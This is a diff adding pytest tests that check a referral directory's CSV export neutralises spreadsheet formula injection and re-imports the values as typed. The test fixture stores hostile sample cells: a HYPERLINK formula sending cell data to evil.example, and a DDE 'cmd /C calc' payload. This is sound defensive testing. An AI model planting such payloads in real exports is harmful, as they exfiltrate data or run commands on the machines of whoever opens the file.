@@ -166,3 +166,70 @@ def test_csv_export_then_import_changes_nothing(app, runner, session, directory,
     assert {
         p.id: (p.updated_at, p.external_id) for p in session.scalars(select(Practitioner))
     } == before
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.fixture
+def formulas(session, add_practitioner):
+    """Listings whose text a spreadsheet would run, stored exactly as typed."""
+    eve = add_practitioner(
+        HYPERLINK, (-33.8688, -151.2093), external_id="m-eve", phone="+61 2 9123 4567"
+    )
+    eve.locations[0].suburb = "-2+3"
+    eve.locations[0].street = "@SUM(1+1)*cmd|' /C calc'!A0"
+    eve.locations[0].state = "'=already quoted"
+    add_practitioner("Quinn 'Q' Lee", (-33.9, 151.1), external_id="'plain", phone="+61291234567")
+    session.commit()
+    return eve
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run(runner, session, formulas):
+    result = runner.invoke(args=["referral", "export", "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    rows = {r["external_id"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
+    eve = rows["m-eve"]
+    assert eve["name"] == "'" + HYPERLINK
+    assert eve["suburb"] == "'-2+3"
+    assert eve["street"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert eve["phone"] == "'+61 2 9123 4567"
+    assert eve["state"] == "''=already quoted"  # escaped once more, so import restores it
+    # plain numbers run nothing and stay numbers; text starting with ' is left as it is
+    assert (eve["lat"], eve["lon"]) == ("-33.8688", "-151.2093")
+    assert rows["'plain"]["phone"] == "+61291234567"
+    assert rows["'plain"]["name"] == "Quinn 'Q' Lee"
+    # the database keeps what was typed
+    session.expire_all()
+    stored = session.get(Practitioner, formulas.id)
+    assert (stored.name, stored.locations[0].suburb) == (HYPERLINK, "-2+3")
+
+
+def test_neutralised_csv_imports_back_as_typed(app, runner, session, formulas, tmp_path):
+    out = tmp_path / "directory.csv"
+    result = runner.invoke(args=["referral", "export", "--format", "csv", "--output", str(out)])
+    assert result.exit_code == 0, result.output
+    report = import_csv(session, out.read_bytes(), app.config)
+    assert (report.created, report.updated, report.unchanged, report.errors) == (0, 0, 2, [])
+    # into an empty directory, the same file makes the same listings
+    for practitioner in session.scalars(select(Practitioner)):
+        session.delete(practitioner)
+    session.commit()
+    report = import_csv(session, out.read_bytes(), app.config)
+    assert (report.created, report.errors) == (2, [])
+    eve = session.scalars(select(Practitioner).where(Practitioner.external_id == "m-eve")).one()
+    assert (eve.name, eve.phone) == (HYPERLINK, "+61 2 9123 4567")
+    place = eve.locations[0]
+    assert (place.suburb, place.street, place.state, place.lat, place.lon) == (
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "'=already quoted",
+        -33.8688,
+        -151.2093,
+    )
+    assert (
+        session.scalars(
+            select(Practitioner.external_id).where(Practitioner.name == "Quinn 'Q' Lee")
+        ).one()
+        == "'plain"
+    )
